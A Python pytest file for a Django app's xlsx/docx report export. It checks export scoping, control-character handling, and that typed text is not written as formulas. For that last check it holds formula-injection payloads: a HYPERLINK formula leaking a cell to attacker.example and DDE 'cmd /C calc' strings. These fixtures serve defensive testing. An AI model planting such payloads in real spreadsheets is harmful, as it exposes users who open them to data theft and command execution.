"""The implementation report is an export: it holds only what the user may export (a leader's read-only role at the
top does not widen it), and what units typed reaches the workbook as text, never as a formula."""

import io

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook

from attt.core.models import Role, RoleAssignment
from attt.core.scoping import forget_scope
from attt.core.services.organizations import create_organization
from attt.core.spreadsheets import append_row
from attt.core.testing import make_user
from attt.plans import services
from attt.plans.models import Indicator
from attt.plans.tests.factories import make_plan, make_task

pytestmark = pytest.mark.django_db


def _workbook_text(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [str(c.value) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]


def _document_text(content: bytes) -> list[str]:
    doc = Document(io.BytesIO(content))
    cells = [cell.text for table in doc.tables for row in table.rows for cell in row.cells]
    return [p.text for p in doc.paragraphs] + cells


@pytest.fixture
def plan_of_two_units(tree):
    """A national plan carried out by departments A and B, each with its report and its own indicator."""
    plan = make_plan(tree.root)
    task = make_task(tree.root, plan=plan)
    mine, other = services.assign(task, [tree.dept_a, tree.dept_b])
    for assignment, unit in ((mine, "A"), (other, "B")):
        services.report_progress(
            assignment,
            period="2024",
            status="in_progress",
            progress=50,
            comment=f"Kết quả đơn vị {unit}",
            difficulties=f"Khó khăn đơn vị {unit}",
            proposals=f"Đề xuất đơn vị {unit}",
        )
        indicator = Indicator.objects.create(
            organization=assignment.organization, plan=plan, number=ord(unit), name=f"Chỉ tiêu đơn vị {unit}"
        )
        services.record_indicator_value(indicator, period="2024", value=f"Giá trị đơn vị {unit}")
    return plan


@pytest.mark.parametrize("fmt", ["xlsx", "docx"])
def test_report_holds_only_what_the_user_may_export(tree, client, plan_of_two_units, fmt):
    user = make_user(tree.dept_a, "security_officer", username="can-bo-a")  # exports department A only
    RoleAssignment.objects.create(user=user, role=Role.objects.get(code="leader"), organization=tree.root)
    forget_scope(user)  # ... and reads everything
    client.force_login(user)
    response = client.get(f"/plans/plans/{plan_of_two_units.pk}/report.{fmt}?period=2024")
    assert response.status_code == 200
    text = " ".join((_workbook_text if fmt == "xlsx" else _document_text)(response.content))
    for what in ("Kết quả", "Khó khăn", "Đề xuất", "Chỉ tiêu", "Giá trị"):
        assert f"{what} đơn vị A" in text
        assert f"{what} đơn vị B" not in text
    assert "Sở B" not in text


def test_consolidated_report_holds_every_unit(tree, client, plan_of_two_units, national_admin):
    client.force_login(national_admin)
    response = client.get(f"/plans/plans/{plan_of_two_units.pk}/report.xlsx?period=2024")
    text = " ".join(_workbook_text(response.content))
    assert all(f"{what} đơn vị {unit}" in text for what in ("Kết quả", "Giá trị") for unit in "AB")


TYPED = {
    "comment": '=HYPERLINK("http://attacker.example/?x="&A1,"Xem")',
    "difficulties": "+cmd|' /C calc'!A0",
    "proposals": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_typed_text_stays_text_in_the_workbook(tree, client, national_admin):
    plan = make_plan(tree.root)
    task = make_task(tree.root, plan=plan, deadline_text="=NOW()")
    (assignment,) = services.assign(task, [tree.dept_a])
    named = create_organization(parent=tree.dept_a, code="ten-la-cong-thuc", name="=3+3", kind="unit")
    (by_name,) = services.assign(task, [named])
    services.report_progress(by_name, period="2024", status="in_progress", progress=5, difficulties="Thiếu người")
    indicator = Indicator.objects.create(organization=tree.root, plan=plan, number=1, name="=1+1")
    services.record_indicator_value(indicator, period="2024", value="=2+2")
    unit = make_user(tree.dept_a, "security_officer", username="don-vi")
    client.force_login(unit)
    form = {"period": "2024", "status": "in_progress", "progress": 50, "links": "", **TYPED}
    assert client.post(f"/plans/assignments/{assignment.pk}/", form).status_code == 302
    client.force_login(national_admin)
    response = client.get(f"/plans/plans/{plan.pk}/report.xlsx?period=2024")
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert TYPED["comment"] in values
    assert any(TYPED["difficulties"] in str(v) for v in values)
    # the imported plan's text, an indicator and its value, a unit's name alone and before its difficulties
    assert {"=NOW()", "=1+1", "=2+2", "=3+3", "=3+3: Thiếu người"} <= values


@pytest.mark.parametrize("fmt", ["xlsx", "docx"])
def test_a_control_character_does_not_break_the_download(tree, client, national_admin, fmt):
    """A vertical tab comes with text pasted from a word processor; neither format can hold one."""
    plan = make_plan(tree.root)
    (assignment,) = services.assign(make_task(tree.root, plan=plan), [tree.dept_a])
    services.report_progress(
        assignment, period="2024", status="done", progress=100, comment="Đã\x0b xong\x01", difficulties="Thiếu\x0b"
    )
    client.force_login(national_admin)
    response = client.get(f"/plans/plans/{plan.pk}/report.{fmt}?period=2024")
    assert response.status_code == 200
    text = (_workbook_text if fmt == "xlsx" else _document_text)(response.content)
    assert "Đã xong" in text
    assert any(line.endswith(": Thiếu") for line in text)


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "=cmd|' /C calc'!A0"])
def test_append_row_keeps_text_as_text(typed):
    book = Workbook()
    append_row(book.active, [typed, 42])
    out = io.BytesIO()
    book.save(out)
    text, number = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert (text.data_type, text.value.strip()) == ("s", typed.strip())
    assert (number.data_type, number.value) == ("n", 42)
